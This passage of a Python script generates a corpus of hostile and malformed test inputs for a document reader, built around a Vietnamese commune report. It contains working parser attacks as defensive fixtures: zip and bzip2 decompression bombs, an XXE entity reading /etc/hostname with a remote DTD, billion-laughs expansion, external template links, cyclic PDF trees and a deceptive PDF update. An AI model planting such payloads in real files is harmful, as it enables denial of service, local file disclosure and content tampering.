"""Write the corpus of hostile and bad inputs into tests/bad/.

    python scripts/make_bad_inputs.py                 # the committed corpus, into tests/bad/
    python scripts/make_bad_inputs.py --out DIR       # the same files elsewhere
    python scripts/make_bad_inputs.py --large DIR     # also the large inputs, into DIR

Every file is made from fixed text and fixed seeds: the same bytes on every run (no
timestamps, zip entries dated 1980-01-01). tests/bad/README.md is written from the same table
and says, per file, what it is and what checking it must give: a read-error code or "read".

Large inputs (a 200 MB text, a single 10 MB line, 10,000 empty PDF pages, 400 KB of noise)
are never committed: tests/test_bad_inputs.py makes them in a temporary folder with
:func:`write_large`. Load this file with ``importlib.util.spec_from_file_location``.
"""

from __future__ import annotations

import argparse
import bz2
import datetime as dt
import functools
import io
import random
import struct
import textwrap
import unicodedata
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
BAD_DIR = ROOT / "tests" / "bad"
ZIP_DATE = (1980, 1, 1, 0, 0, 0)
FIXED_DATE = dt.datetime(2025, 12, 3, tzinfo=dt.UTC)
MAX_COMMITTED_BYTES = 200 * 1024

# --- text ----------------------------------------------------------------------------------

REPORT_LINES = [
    "ỦY BAN NHÂN DÂN XÃ BA TÔ",
    "Số: 287/BC-UBND",
    "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM",
    "Độc lập - Tự do - Hạnh phúc",
    "Ba Tô, ngày 03 tháng 12 năm 2025",
    "",
    "BÁO CÁO",
    "Kết quả triển khai công tác tiêu chuẩn, đo lường, chất lượng quốc gia trên địa bàn xã Ba Tô",
    "",
    (
        "Thực hiện Công văn số 3078/SKHCN-TĐC ngày 25/11/2025 của Sở Khoa học và Công nghệ tỉnh "
        "Quảng Ngãi về việc đề nghị báo cáo kết quả thực hiện Kế hoạch số 40/KH-UBND ngày "
        "09/9/2025 của UBND tỉnh Quảng Ngãi. Ủy ban nhân dân xã Ba Tô báo cáo như sau:"
    ),
    "I. CÔNG TÁC CHỈ ĐẠO VÀ TRIỂN KHAI",
    (
        "1. Việc ban hành Kế hoạch: UBND xã đã ban hành Kế hoạch số 113/KH-UBND ngày 25/11/2025 "
        "triển khai thực hiện Quyết định số 1703/QĐ-TTg ngày 31/12/2024 của Thủ tướng Chính phủ."
    ),
    "II. KẾT QUẢ THỰC HIỆN CÁC NHIỆM VỤ TRỌNG TÂM",
    "1. Tuyên truyền, nâng cao nhận thức: đã tổ chức 03 hội nghị với 120 lượt người tham dự.",
    "2. Kiểm tra, giám sát: đã kiểm tra 15 cơ sở kinh doanh, phát hiện 02 vi phạm.",
    "III. ĐÁNH GIÁ CHUNG",
    "1. Ưu điểm: công tác triển khai kịp thời.",
    "2. Hạn chế: nguồn nhân lực còn thiếu.",
    "IV. KIẾN NGHỊ, ĐỀ XUẤT",
    "Đề nghị Sở Khoa học và Công nghệ tổ chức tập huấn cho công chức xã.",
    "V. NHIỆM VỤ, GIẢI PHÁP TRỌNG TÂM NĂM 2026",
    "Tiếp tục triển khai Kế hoạch số 40/KH-UBND ngày 09/9/2025 của UBND tỉnh.",
    "",
    "Nơi nhận:",
    "- Sở Khoa học và Công nghệ;",
    "- Lưu: VT.",
    "TM. ỦY BAN NHÂN DÂN",
    "CHỦ TỊCH",
    "Nguyễn Văn An",
]
REPORT = "\n".join(REPORT_LINES) + "\n"
# The same report without diacritics, for PDFs drawn with fpdf2's core fonts (cp1252 only).
REPORT_ASCII = (
    unicodedata.normalize("NFD", REPORT.replace("Đ", "D").replace("đ", "d"))
    .encode("ascii", "ignore")
    .decode("ascii")
)
CITED_LINE = (
    "Thực hiện Công văn số 3078/SKHCN-TĐC ngày 25/11/2025 của Sở Khoa học và Công nghệ "
    "tỉnh Quảng Ngãi về việc đề nghị báo cáo kết quả thực hiện Kế hoạch số 40/KH-UBND."
)

RECIPE = """\
Grandma's Banana Bread

Ingredients
- 3 ripe bananas, mashed
- 1/3 cup melted butter
- 3/4 cup sugar
- 1 egg, beaten
- 1 teaspoon vanilla extract
- 1 teaspoon baking soda
- a pinch of salt
- 1 1/2 cups all-purpose flour

Method
1. Preheat the oven to 350 F (175 C) and butter a 4x8-inch loaf pan.
2. In a mixing bowl, mix the butter into the mashed bananas.
3. Mix in the baking soda and salt. Stir in the sugar, beaten egg and vanilla extract.
4. Mix in the flour.
5. Pour the batter into the pan and bake for 50 minutes to 1 hour, until a tester comes out clean.
6. Cool on a rack for 10 minutes, then remove from the pan. Serves 8.

Notes: best on day 2. Keeps 3/4 of a week in a tin, or 3 months frozen (wrap it twice).
"""

PYTHON_SOURCE = '''\
"""A module that is not a report: Python source code."""

from __future__ import annotations

import re
from dataclasses import dataclass

SYMBOL_RE = re.compile(r"(\\d+)/([A-ZĐ]+)-([A-ZĐ]+)")  # e.g. 3078/SKHCN-TĐC


@dataclass
class Node:
    number: str
    title: str
    children: list["Node"]


def walk(node: Node, depth: int = 0):
    """I. II. III. 1. 2. 3. — numbering that only looks like an outline."""
    yield depth, node
    for child in node.children:
        yield from walk(child, depth + 1)


if __name__ == "__main__":
    tree = Node("I.", "KẾT QUẢ", [Node("1.", "Việc ban hành Kế hoạch", [])])
    for depth, node in walk(tree):
        print("    " * depth + f"{node.number} {node.title}")
    print({"date": "25/11/2025", "ratio": 3 / 4, "symbol": "40/KH-UBND"})
'''

_TONES = "\u0300\u0301\u0303\u0309\u0323"


def to_cp1258(text: str) -> bytes:
    """cp1258 has â ê ô ă ơ ư đ precomposed but the five tones only as combining marks."""
    out = []
    for char in unicodedata.normalize("NFC", text):
        decomposed = unicodedata.normalize("NFD", char)
        tone = "".join(c for c in decomposed if c in _TONES)
        base = unicodedata.normalize("NFC", "".join(c for c in decomposed if c not in _TONES))
        out.append(base + tone)
    return "".join(out).encode("cp1258")


def deep_numbering() -> bytes:
    """Headings 1. to 1.1.….1. (200 levels) under a normal report opening."""
    lines = REPORT_LINES[:10]
    for depth in range(1, 201):
        lines.append("1." * depth + f" Mục cấp {depth}")
        lines.append(f"Nội dung mục cấp {depth}: đã kiểm tra {depth} cơ sở.")
    return ("\n".join(lines) + "\n").encode("utf-8")


def many_numbered_lines() -> bytes:
    """5,000 numbered headings three to four levels deep, 2.1.1. up to 9.30.17.4."""
    lines = REPORT_LINES[:10]
    count = 0
    rng = random.Random(5000)
    while count < 5000:
        depth = rng.choice((1, 2, 3, 4))
        number = ".".join(str(rng.randint(1, 30)) for _ in range(depth)) + "."
        lines.append(f"{number} Mục {count}")
        count += 1
    return ("\n".join(lines) + "\n").encode("utf-8")


def mixed_encodings() -> bytes:
    """One file, three encodings: UTF-8, then cp1258, then UTF-16-LE (no BOM), then UTF-8."""
    return b"".join(
        [
            "\n".join(REPORT_LINES[:10]).encode("utf-8") + b"\n",
            to_cp1258("\n".join(REPORT_LINES[10:15]) + "\n"),
            ("\n".join(REPORT_LINES[15:20]) + "\n").encode("utf-16-le"),
            ("\n".join(REPORT_LINES[20:]) + "\n").encode("utf-8"),
        ]
    )


def invisible_marks() -> bytes:
    """The cited symbol broken up by direction and zero-width marks, in a normal report."""
    marked = (
        "Thực hiện Công văn số \u20603078/\u200bSKHCN-\u202eTĐC\u202c\u200f ngày "
        "\ufeff25/11/2025 của Sở Khoa học và Công nghệ tỉnh Quảng Ngãi về việc đề nghị báo cáo "
        "kết quả thực hiện Kế hoạch số 40/KH-UBND ngày 09/9/2025 của UBND tỉnh Quảng Ngãi."
    )
    lines = [marked if line.startswith("Thực hiện Công văn") else line for line in REPORT_LINES]
    return ("\n".join(lines) + "\n").encode("utf-8")


def stray_byte() -> bytes:
    """The UTF-8 report with one stray cp1252 byte: "…" pasted as 0x85 after "như sau"."""
    data = REPORT.encode()
    assert "như sau:".encode() in data
    return data.replace("như sau:".encode(), "như sau".encode() + b"\x85", 1)


def noise(size: int = 64 * 1024, seed: int = 7) -> bytes:
    return random.Random(seed).randbytes(size)


# --- PDF -----------------------------------------------------------------------------------


def fpdf_report(*, repeat: int = 1, **encryption: str) -> bytes:
    """The ASCII report drawn with fpdf2's core font, uncompressed, with a fixed date."""
    from fpdf import FPDF

    pdf = FPDF()
    pdf.compress = False
    pdf.set_creation_date(FIXED_DATE)
    pdf.set_font("Helvetica", size=11)
    pdf.add_page()
    for _ in range(repeat):
        for line in REPORT_ASCII.splitlines():
            pdf.multi_cell(0, 6, line or " ", new_x="LMARGIN", new_y="NEXT")
    if encryption:
        pdf.set_encryption(**encryption)
    return bytes(pdf.output())


def pdf_corrupt() -> bytes:
    return b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n" + noise(20_000, seed=1707)


def pdf_truncated() -> bytes:
    whole = fpdf_report(repeat=4)
    return whole[: len(whole) // 2]


def pdf_with_link() -> bytes:
    """A report whose lines link to an external address (URI actions)."""
    from fpdf import FPDF

    pdf = FPDF()
    pdf.compress = False
    pdf.set_creation_date(FIXED_DATE)
    pdf.set_font("Helvetica", size=11)
    pdf.add_page()
    for line in REPORT_ASCII.splitlines():
        pdf.multi_cell(
            0, 6, line or " ", link="http://example.invalid/x", new_x="LMARGIN", new_y="NEXT"
        )
    return bytes(pdf.output())


def raw_pdf(objects: list[bytes]) -> bytes:
    """A PDF from numbered object bodies (1 0 obj …), with a correct xref table."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return bytes(out)


def _content_stream(lines: list[str]) -> bytes:
    body = (
        b"BT /F1 11 Tf 14 TL 56 780 Td "
        + b"".join(
            b"("
            + line.encode("latin-1")
            .replace(b"\\", b"\\\\")
            .replace(b"(", b"\\(")
            .replace(b")", b"\\)")
            + b") Tj T* "
            for line in lines
        )
        + b"ET"
    )
    return b"<< /Length %d >>\nstream\n" % len(body) + body + b"\nendstream"


_FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>"


def pdf_cyclic_page_tree() -> bytes:
    """The page tree lists itself among its kids (an endless walk for a naive reader)."""
    return raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [2 0 R 3 0 R 2 0 R] /Count 3 >>",
            (
                b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R"
                b" /Resources << /Font << /F1 5 0 R >> >> >>"
            ),
            _content_stream(REPORT_ASCII.splitlines()),
            _FONT,
        ]
    )


def pdf_deep_nesting() -> bytes:
    """A page whose resources hold arrays nested 50,000 deep (recursion in a parser)."""
    depth = 50_000
    return raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R"
            b" /Resources << /Font << /F1 5 0 R >> /X " + b"[" * depth + b"]" * depth + b" >> >>",
            _content_stream(REPORT_ASCII.splitlines()),
            _FONT,
        ]
    )


def _wrapped(lines: list[str], width: int = 90) -> list[str]:
    return [part for line in lines for part in textwrap.wrap(line, width) or [""]]


def _page_dict(contents: int) -> bytes:
    return (
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents %d 0 R"
        b" /Resources << /Font << /F1 5 0 R >> >> >>" % contents
    )


def pdf_incremental_update() -> bytes:
    """The report as revision 1; revision 2 (an incremental update) replaces page 1's content
    with a draft that cites no Công văn 3078 and lacks section II; its ``startxref`` points
    3 bytes before its xref table. pdfium repairs that and shows the draft; pdfminer reads the
    first revision's page."""
    original = raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            _page_dict(4),
            _content_stream(_wrapped(REPORT_ASCII.splitlines())),
            _FONT,
        ]
    )
    draft = [
        line
        for line in REPORT_ASCII.splitlines()
        if "3078" not in line and not line.startswith(("II.", "1. Tuyen", "2. Kiem"))
    ]
    draft[draft.index("BAO CAO")] = "BAO CAO (DU THAO - CHUA DUYET)"
    previous_xref = int(original.rsplit(b"startxref\n", 1)[1].split()[0])
    update = bytearray(original)
    offsets = {}
    for number, body in ((3, _page_dict(6)), (6, _content_stream(_wrapped(draft)))):
        offsets[number] = len(update)
        update += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(update)
    update += b"xref\n0 1\n0000000000 65535 f \n"
    update += b"".join(b"%d 1\n%010d 00000 n \n" % (n, offset) for n, offset in offsets.items())
    update += b"trailer\n<< /Size 7 /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (
        previous_xref,
        xref - 3,
    )
    return bytes(update)


def empty_pages_pdf(pages: int = 10_000) -> bytes:
    from fpdf import FPDF

    pdf = FPDF()
    pdf.set_creation_date(FIXED_DATE)
    for _ in range(pages):
        pdf.add_page()
    return bytes(pdf.output())


def png_image() -> bytes:
    """A real 64×64 greyscale PNG (noise), to be saved under a .pdf name."""
    rng = random.Random(64)
    rows = b"".join(b"\x00" + rng.randbytes(64) for _ in range(64))

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    header = struct.pack(">IIBBBBB", 64, 64, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(rows, 9))
        + chunk(b"IEND", b"")
    )


# --- zip containers ------------------------------------------------------------------------


def _zip(entries: list[tuple[str, bytes]], compress_type: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in entries:
            info = zipfile.ZipInfo(name, date_time=ZIP_DATE)
            info.compress_type = compress_type
            info.external_attr = 0o644 << 16
            archive.writestr(info, data, compresslevel=9)
    return buffer.getvalue()


def _entries(data: bytes) -> list[tuple[str, bytes]]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return [(info.filename, archive.read(info.filename)) for info in archive.infolist()]


def docx_entries(paragraphs: list[str] | None = None) -> list[tuple[str, bytes]]:
    """python-docx's default document with the report's paragraphs, as zip entries."""
    import docx

    document = docx.Document()
    for line in paragraphs if paragraphs is not None else REPORT_LINES:
        document.add_paragraph(line)
    buffer = io.BytesIO()
    document.save(buffer)
    return _entries(buffer.getvalue())


def _replace(entries: list[tuple[str, bytes]], name: str, data: bytes) -> list[tuple[str, bytes]]:
    assert any(n == name for n, _ in entries), name
    return [(n, data if n == name else d) for n, d in entries]


def _document_xml(entries: list[tuple[str, bytes]]) -> bytes:
    return dict(entries)["word/document.xml"]


_BODY_OPEN = b"<w:body>"


def _repeated(unit: bytes, total: int) -> Iterator[bytes]:
    block = unit * ((1 << 20) // len(unit))
    written = 0
    while written + len(block) <= total:
        yield block
        written += len(block)
    yield unit * ((total - written) // len(unit))


def docx_bomb_deflate() -> bytes:
    """word/document.xml with 150 MB of empty elements (39 million ``<p/>``), deflated ~1000:1.

    A period of 4 bytes is what deflate packs best (a 258-byte match at distance 4 costs two
    bits); parsed, it would be tens of millions of lxml elements.
    """
    entries = docx_entries(REPORT_LINES[:3])
    head, tail = _document_xml(entries).split(_BODY_OPEN)
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    parts = [head + _BODY_OPEN, *_repeated(b"<p/>", 150 * 1024 * 1024), tail]
    crc, size, out = 0, 0, []
    for part in parts:
        crc, size = zlib.crc32(part, crc), size + len(part)
        out.append(packer.compress(part))
    out.append(packer.flush())
    return _docx_with_raw_member(
        entries, "word/document.xml", b"".join(out), size, crc, zipfile.ZIP_DEFLATED
    )


_BZ_BLOCK_MAGIC = format(0x314159265359, "048b")
_BZ_END_MAGIC = format(0x177245385090, "048b")


def _bits(data: bytes) -> str:
    return format(int.from_bytes(data, "big"), f"0{len(data) * 8}b")


def _bzip2_blocks(stream: bytes) -> list[str]:
    """The blocks of a one-stream bzip2 file, as bit strings starting with their magic."""
    bits = _bits(stream)[32:]  # after "BZh9"
    end = bits.rindex(_BZ_END_MAGIC)
    assert len(bits) - end - 48 - 32 < 8, "end-of-stream marker not at the end"
    starts = [i for i in range(end) if bits.startswith(_BZ_BLOCK_MAGIC, i)]
    assert starts and starts[0] == 0
    return [bits[a:b] for a, b in zip(starts, [*starts[1:], end])]


@functools.lru_cache(maxsize=1)
def _bzip2_bomb(total: int) -> tuple[bytes, int, int]:
    """(bzip2 stream, size, CRC-32) of a document.xml with one run of at least ``total`` 'A's.

    Compressing 1 GiB takes bzip2 7 s, so it compresses 100 MB (the XML's first block, one
    block of nothing but 'A', the last block) and repeats the middle block's bits. bzip2 blocks are
    independent: the stream's CRC is a rotate-and-xor of the blocks' CRCs.
    """
    head = (
        b"<?xml version='1.0' encoding='UTF-8' standalone='yes'?>\n"
        b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        b"<w:body><w:p><w:r><w:t>"
    )
    tail = b"</w:t></w:r></w:p></w:body></w:document>"
    sample = 100 * 1024 * 1024
    compressor = bz2.BZ2Compressor(9)
    out = [compressor.compress(head)]
    out += [compressor.compress(block) for block in _repeated(b"A", sample)]
    out += [compressor.compress(tail), compressor.flush()]
    first, full, *rest = _bzip2_blocks(b"".join(out))
    unpacked = bz2.decompress(_bzip2_stream([full]))
    per_block = len(unpacked)
    assert unpacked == b"A" * per_block, "the second block is not all 'A'"
    repeats = -(-(total - sample) // per_block)
    blocks = [first, *[full] * repeats, full, *rest]
    size = len(head) + sample + repeats * per_block + len(tail)
    crc = zlib.crc32(head)
    for block in _repeated(b"A", sample + repeats * per_block):
        crc = zlib.crc32(block, crc)
    return _bzip2_stream(blocks), size, zlib.crc32(tail, crc)


def _bzip2_stream(blocks: list[str]) -> bytes:
    combined = 0
    for block in blocks:
        combined = ((combined << 1) | (combined >> 31)) & 0xFFFFFFFF
        combined ^= int(block[48:80], 2)
    bits = "".join(blocks) + _BZ_END_MAGIC + format(combined, "032b")
    bits += "0" * (-len(bits) % 8)
    return b"BZh9" + int(bits, 2).to_bytes(len(bits) // 8, "big")


def _docx_with_raw_member(
    entries: list[tuple[str, bytes]], name: str, raw: bytes, file_size: int, crc: int, method: int
) -> bytes:
    """A zip whose member ``name`` is ``raw`` (already compressed) with the given header values."""
    out = bytearray()
    central = bytearray()
    count = 0
    for entry_name, data in entries:
        if entry_name == name:
            compressed, size, entry_crc, kind = raw, file_size, crc, method
        else:
            packer = zlib.compressobj(9, zlib.DEFLATED, -15)
            compressed = packer.compress(data) + packer.flush()
            size, entry_crc, kind = len(data), zlib.crc32(data), zipfile.ZIP_DEFLATED
        encoded = entry_name.encode()
        version = 46 if kind == zipfile.ZIP_BZIP2 else 20
        offset = len(out)
        out += struct.pack(
            "<IHHHHHIIIHH", 0x04034B50, version, 0, kind, 0, 0x21, entry_crc,
            len(compressed), size, len(encoded), 0,
        ) + encoded + compressed  # fmt: skip
        central += struct.pack(
            "<IHHHHHHIIIHHHHHII", 0x02014B50, version, version, 0, kind, 0, 0x21, entry_crc,
            len(compressed), size, len(encoded), 0, 0, 0, 0, 0o644 << 16, offset,
        ) + encoded  # fmt: skip
        count += 1
    start = len(out)
    out += central
    out += struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count, len(central), start, 0)
    return bytes(out)


def docx_bomb_bzip2() -> bytes:
    """word/document.xml: 1 GiB of 'A' in one text run, bzip2-compressed (zip method 12)."""
    entries = docx_entries([])
    raw, size, crc = _bzip2_bomb(1 << 30)
    return _docx_with_raw_member(entries, "word/document.xml", raw, size, crc, zipfile.ZIP_BZIP2)


def docx_bomb_lying_size() -> bytes:
    """The bzip2 bomb, but the zip directory claims document.xml unpacks to 4 KB."""
    entries = docx_entries([])
    raw, _, _ = _bzip2_bomb(1 << 30)
    return _docx_with_raw_member(entries, "word/document.xml", raw, 4096, 0, zipfile.ZIP_BZIP2)


def docx_xxe() -> bytes:
    """An external entity pointing at file:///etc/hostname, used inside the report text."""
    entries = docx_entries(["XXE-BEGIN-PLACEHOLDER-XXE-END", *REPORT_LINES])
    xml = _document_xml(entries)
    xml = xml.replace(
        b"?>",
        b'?>\n<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/hostname">'
        b'<!ENTITY % remote SYSTEM "http://example.invalid/x.dtd"> %remote;]>',
        1,
    ).replace(b"PLACEHOLDER", b"&xxe;")
    return _zip(_replace(entries, "word/document.xml", xml))


def docx_billion_laughs() -> bytes:
    """Internal entities nested ten deep (10^10 'lol's if expanded), used in a paragraph."""
    entries = docx_entries(["LAUGHS-PLACEHOLDER", *REPORT_LINES])
    entities = b'<!ENTITY lol0 "lol">' + b"".join(
        b'<!ENTITY lol%d "%s">' % (level, b"&lol%d;" % (level - 1) * 10) for level in range(1, 11)
    )
    xml = _document_xml(entries)
    xml = xml.replace(b"?>", b"?>\n<!DOCTYPE w:document [" + entities + b"]>", 1)
    xml = xml.replace(b"PLACEHOLDER", b"&lol10;")
    return _zip(_replace(entries, "word/document.xml", xml))


_R = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def docx_external_links() -> bytes:
    """A hyperlink, a linked (not embedded) picture and an attached template, all external."""
    entries = docx_entries(["LINK-PLACEHOLDER", *REPORT_LINES])
    data = dict(entries)
    rels = data["word/_rels/document.xml.rels"].replace(
        b"</Relationships>",
        b'<Relationship Id="rIdX1" Type="' + _R + b'/hyperlink" Target="http://example.invalid/x"'
        b' TargetMode="External"/>'
        b'<Relationship Id="rIdX2" Type="' + _R + b'/image" Target="http://example.invalid/x.png"'
        b' TargetMode="External"/>'
        b'<Relationship Id="rIdX3" Type="' + _R + b'/oleObject" Target="file:///etc/hostname"'
        b' TargetMode="External"/>'
        b"</Relationships>",
    )
    picture = (
        b'<w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/'
        b'wordprocessingDrawing"><wp:extent cx="914400" cy="914400"/><wp:docPr id="1" name="x"/>'
        b'<a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main">'
        b'<a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture">'
        b'<pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture">'
        b'<pic:nvPicPr><pic:cNvPr id="1" name="x.png"/><pic:cNvPicPr/></pic:nvPicPr>'
        b'<pic:blipFill><a:blip xmlns:r="' + _R + b'" r:link="rIdX2"/></pic:blipFill>'
        b"<pic:spPr/></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r>"
    )
    xml = data["word/document.xml"].replace(
        b"<w:r><w:t>LINK-PLACEHOLDER</w:t></w:r>",
        b'<w:hyperlink r:id="rIdX1"><w:r><w:t>Xem http://example.invalid/x</w:t></w:r></w:hyperlink>'
        + picture
        + b'<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve">'
        b' INCLUDETEXT "file:///etc/hostname" </w:instrText></w:r>'
        b'<w:r><w:fldChar w:fldCharType="end"/></w:r>',
    )
    assert b"rIdX1" in xml
    settings_rels = (
        b"<?xml version='1.0' encoding='UTF-8' standalone='yes'?>\n"
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rIdT" Type="' + _R + b'/attachedTemplate"'
        b' Target="http://example.invalid/x.dotm" TargetMode="External"/></Relationships>'
    )
    settings = data["word/settings.xml"].replace(
        b"<w:zoom ", b'<w:attachedTemplate r:id="rIdT"/><w:zoom ', 1
    )
    assert b"attachedTemplate" in settings
    entries = _replace(
        _replace(_replace(entries, "word/_rels/document.xml.rels", rels), "word/document.xml", xml),
        "word/settings.xml",
        settings,
    )
    return _zip([*entries, ("word/_rels/settings.xml.rels", settings_rels)])


_W_NS = b"http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_TRACKED = b'w:author="Nguy\xe1\xbb\x85n V\xc4\x83n An" w:date="2025-12-03T08:00:00Z"'


def _docx_with_body(body_edit: Callable[[bytes], bytes], paragraphs: list[str] | None = None) -> bytes:
    """The report as python-docx writes it, its word/document.xml edited by ``body_edit``."""
    entries = docx_entries(paragraphs)
    xml = body_edit(_document_xml(entries))
    return _zip(_replace(entries, "word/document.xml", xml))


def _paragraph(text: str) -> bytes:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>".encode()


def docx_citations_wrapped() -> bytes:
    """The report with its cited line in a hyperlink, its plan citation in a tracked insertion
    (beside a tracked deletion of a wrong number) and a line in a content control."""

    def edit(xml: bytes) -> bytes:
        cited, plan = _paragraph(REPORT_LINES[9]), _paragraph(REPORT_LINES[11])
        title = _paragraph(REPORT_LINES[7])
        assert cited in xml and plan in xml and title in xml
        xml = xml.replace(
            cited, cited.replace(b"<w:r>", b'<w:hyperlink w:anchor="cv3078"><w:r>').replace(
                b"</w:r>", b"</w:r></w:hyperlink>"
            )
        )
        xml = xml.replace(
            plan,
            plan.replace(
                b"<w:r>",
                b'<w:del w:id="1" ' + _TRACKED + b"><w:r><w:delText>K\xe1\xba\xbf ho\xe1\xba\xa1ch s"
                b"\xe1\xbb\x91 99/KH-UBND ng\xc3\xa0y 01/01/2020. </w:delText></w:r></w:del>"
                b'<w:ins w:id="2" ' + _TRACKED + b"><w:r>",
            ).replace(b"</w:r></w:p>", b"</w:r></w:ins></w:p>"),
        )
        return xml.replace(
            title, b'<w:sdt><w:sdtPr><w:tag w:val="trich-yeu"/></w:sdtPr><w:sdtContent>' + title
            + b"</w:sdtContent></w:sdt>"
        )

    return _docx_with_body(edit)


def docx_hidden_citation() -> bytes:
    """The report whose only citation of Công văn 3078 is hidden text (``w:vanish``)."""

    def edit(xml: bytes) -> bytes:
        cited = _paragraph(REPORT_LINES[9])
        assert cited in xml
        return xml.replace(cited, cited.replace(b"<w:r>", b"<w:r><w:rPr><w:vanish/></w:rPr>"))

    return _docx_with_body(edit)


def docx_numbering_start_huge() -> bytes:
    """Numbered paragraphs whose list starts at 10^12 in Roman numerals (Word caps it at 32767)."""
    entries = docx_entries([*REPORT_LINES, "NUMBERED-PLACEHOLDER"])
    numbering = (
        b"<?xml version='1.0' encoding='UTF-8' standalone='yes'?>\n"
        b'<w:numbering xmlns:w="' + _W_NS + b'"><w:abstractNum w:abstractNumId="0">'
        b'<w:lvl w:ilvl="0"><w:start w:val="1000000000000"/><w:numFmt w:val="upperRoman"/>'
        b'<w:lvlText w:val="%1."/></w:lvl><w:lvl w:ilvl="1"><w:start w:val="2147483647"/>'
        b'<w:numFmt w:val="lowerLetter"/><w:lvlText w:val="%1.%2)"/></w:lvl></w:abstractNum>'
        b'<w:num w:numId="1"><w:abstractNumId w:val="0"/><w:lvlOverride w:ilvl="1">'
        b'<w:startOverride w:val="99999999999999999999"/></w:lvlOverride></w:num></w:numbering>'
    )
    numbered = b"".join(
        b'<w:p><w:pPr><w:numPr><w:ilvl w:val="' + level + b'"/><w:numId w:val="1"/></w:numPr>'
        b"</w:pPr><w:r><w:t>Ph\xe1\xbb\xa5 l\xe1\xbb\xa5c</w:t></w:r></w:p>"
        for level in (b"0", b"1", b"0")
    )
    xml = _document_xml(entries).replace(_paragraph("NUMBERED-PLACEHOLDER"), numbered)
    assert numbered in xml
    return _zip(_replace(_replace(entries, "word/document.xml", xml), "word/numbering.xml", numbering))


def _table_before_report(table: bytes) -> bytes:
    return _docx_with_body(lambda xml: xml.replace(_BODY_OPEN, _BODY_OPEN + table, 1))


def docx_gridspan_huge() -> bytes:
    """A table cell spanning 2^31-1 grid columns (Word allows 63), before the report."""
    return _table_before_report(
        b'<w:tbl><w:tblGrid><w:gridCol w:w="9000"/></w:tblGrid><w:tr><w:tc><w:tcPr>'
        b'<w:gridSpan w:val="2147483647"/></w:tcPr><w:p><w:r><w:t>B\xe1\xba\xa3ng</w:t></w:r></w:p>'
        b"</w:tc></w:tr></w:tbl>"
    )


def docx_vmerge_chain(rows: int = 1200) -> bytes:
    """A table whose first column is one cell merged down 1,200 rows, before the report."""
    row = (
        b"<w:tr><w:tc><w:tcPr><w:vMerge/></w:tcPr><w:p/></w:tc>"
        b"<w:tc><w:p><w:r><w:t>D\xc3\xb2ng</w:t></w:r></w:p></w:tc></w:tr>"
    )
    first = (
        b'<w:tr><w:tc><w:tcPr><w:vMerge w:val="restart"/></w:tcPr><w:p><w:r><w:t>X\xc3\xa3 Ba T'
        b"\xc3\xb4</w:t></w:r></w:p></w:tc><w:tc><w:p><w:r><w:t>D\xc3\xb2ng</w:t></w:r></w:p></w:tc></w:tr>"
    )
    return _table_before_report(
        b'<w:tbl><w:tblGrid><w:gridCol w:w="3000"/><w:gridCol w:w="6000"/></w:tblGrid>'
        + first + row * (rows - 1) + b"</w:tbl>"
    )


def xlsx_workbook() -> bytes:
    """A real spreadsheet (openpyxl) with the report's figures, to be saved as .docx."""
    import openpyxl

    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.title = "Bao cao"
    sheet.append(["Xã", "Hội nghị", "Cơ sở kiểm tra", "Vi phạm"])
    sheet.append(["Ba Tô", 3, 15, 2])
    workbook.properties.creator = "make_bad_inputs"
    workbook.properties.created = workbook.properties.modified = FIXED_DATE.replace(tzinfo=None)
    buffer = io.BytesIO()
    workbook.save(buffer)
    entries = _entries(buffer.getvalue())
    core = dict(entries)["docProps/core.xml"]
    # openpyxl stamps the save time as "modified"; fix it.
